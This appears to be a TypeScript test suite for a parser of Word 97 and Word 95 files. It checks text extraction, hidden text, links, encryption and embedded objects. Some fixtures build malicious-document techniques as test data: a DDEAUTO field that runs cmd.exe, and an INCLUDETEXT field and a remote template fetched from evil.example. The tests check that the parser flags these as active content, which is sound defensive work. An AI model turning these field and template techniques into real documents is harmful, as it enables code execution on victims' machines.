import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compoundFile } from '../../support/compound-file.ts';
import { documentReading } from '../../support/reading-documents.ts';
import { word97 } from '../../support/word97.ts';

const read = await documentReading();

describe('a document of Word 97', () => {
  it('has its words from pieces of both widths', async () => {
    const { root, text, flags } = await read(
      word97([{ text: 'Hel', narrow: true }, { text: 'lo мир\r' }, { text: 'caf\xe9\x07x', narrow: true }]),
    );
    assert.equal(root.detectedType, 'application/msword');
    assert.equal(text, 'Hello мир\ncafé\tx');
    assert.deepEqual(flags, []);
  });

  it('tells apart what is hidden', async () => {
    const { text, hidden } = await read(
      word97([
        { text: 'pass' },
        { text: 'salt', hidden: true },
        { text: 'word', narrow: true },
        { text: 'end', hidden: true },
      ]),
    );
    assert.equal(text, 'password');
    assert.equal(hidden, 'saltend');
  });

  it('has fields: links, DDE, what comes from elsewhere', async () => {
    const field = (code: string, shown: string): string => `\x13 ${code} \x14${shown}\x15`;
    const { text, links, flags } = await read(
      word97([
        { text: `See ${field('HYPERLINK "https://example.com/x"', 'here')}.\r` },
        { text: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', '!'), narrow: true },
        { text: field('INCLUDETEXT "https://evil.example/a.doc"', '') },
      ]),
    );
    assert.equal(text, 'See here.\n!');
    assert.deepEqual(links, ['https://example.com/x <here>', 'https://evil.example/a.doc']);
    assert.deepEqual(flags, ['active:dde', 'active:external-object']);
  });

  it('has a template from a server, or an honest one', async () => {
    const { flags, links } = await read(word97([{ text: 'x' }], { template: 'https://evil.example/t.dotm' }));
    assert.deepEqual(flags, ['active:external-template']);
    assert.deepEqual(links, ['https://evil.example/t.dotm']);
    assert.deepEqual((await read(word97([{ text: 'x' }], { template: 'C:\\Templates\\Normal.dot' }))).flags, []);
  });

  it('needs a password', async () => {
    for (const flags of [0x0300, 0x8300]) {
      const document = await read(word97([{ text: 'secret' }], { flags }));
      assert.deepEqual(document.flags, ['encrypted:encrypted-document']);
      assert.equal(document.text, null);
    }
  });

  it('is read in the form of Word 95', async () => {
    const stream = Buffer.alloc(0x900);
    stream.writeUInt16LE(0xa5dc, 0);
    stream.writeUInt32LE(0x800, 24);
    stream.writeUInt32LE(0x805, 28);
    stream.write('Hello', 0x800);
    assert.equal((await read(compoundFile({ WordDocument: stream }))).text, 'Hello');
  });

  it('is read where it lies in the storage of an object', async () => {
    const inner = Buffer.alloc(0x900);
    inner.writeUInt16LE(0xa5dc, 0);
    inner.writeUInt32LE(0x800, 24);
    inner.writeUInt32LE(0x805, 28);
    inner.write('Inner', 0x800);
    const { text } = await read(word97([{ text: 'Outer' }], { more: { ObjectPool: { _1: { WordDocument: inner } } } }));
    assert.equal(text, 'Outer\nInner');
  });
});
